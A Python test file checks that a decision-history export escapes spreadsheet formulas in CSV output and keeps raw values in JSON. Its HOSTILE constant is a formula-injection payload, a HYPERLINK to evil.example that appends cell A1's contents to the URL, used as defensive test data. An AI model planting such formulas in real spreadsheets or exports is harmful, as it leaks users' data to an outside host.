"""Exporting the filtered decision history: every matching row, safe for spreadsheets."""

from __future__ import annotations

import csv
import io
import json

from council.domain.filters import DecisionFilter
from council.services.decision_export import COLUMNS, export_rows, history_csv, history_json
from council.services.workspace import Workspace
from tests.services.conftest import add_person, decide

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_csv_holds_the_filtered_rows_with_formulas_neutralised(empty: Workspace) -> None:
    ws = empty
    owner = add_person(ws, "Marieke Jansen", "member")
    decide(ws, HOSTILE, "+31 20 123 4567 is the new number.", '@SUM(1) and "quotes"', owner)
    decide(ws, "Meter photos", "-5% typing errors.", "Wrong bills.", owner, department="it")

    rows = export_rows(ws, DecisionFilter(departments=("service",)))
    text = history_csv(rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))

    assert read[0] == list(COLUMNS.values())
    assert len(read) == 2  # the heading and the one decision of the service department
    row = dict(zip(read[0], read[1], strict=True))
    assert row["Title"] == "'" + HOSTILE
    assert row["What was decided"] == "'+31 20 123 4567 is the new number."
    assert row["Why"] == '\'@SUM(1) and "quotes"'
    assert row["Owner"] == "Marieke Jansen" and row["Department"] == "Customer service"
    assert text.splitlines()[1].startswith("1,")  # numbers stay numbers, unquoted


def test_the_json_keeps_every_value_exactly_as_recorded(empty: Workspace) -> None:
    ws = empty
    owner = add_person(ws, "Marieke Jansen", "member")
    decide(ws, HOSTILE, "Text.", "Why.", owner, stage="support")
    [row] = json.loads(history_json(export_rows(ws, DecisionFilter())))
    assert row["title"] == HOSTILE
    assert (row["decision"], row["status"], row["journey_stages"]) == (
        1,
        "Decided",
        "Questions, faults & complaints",
    )
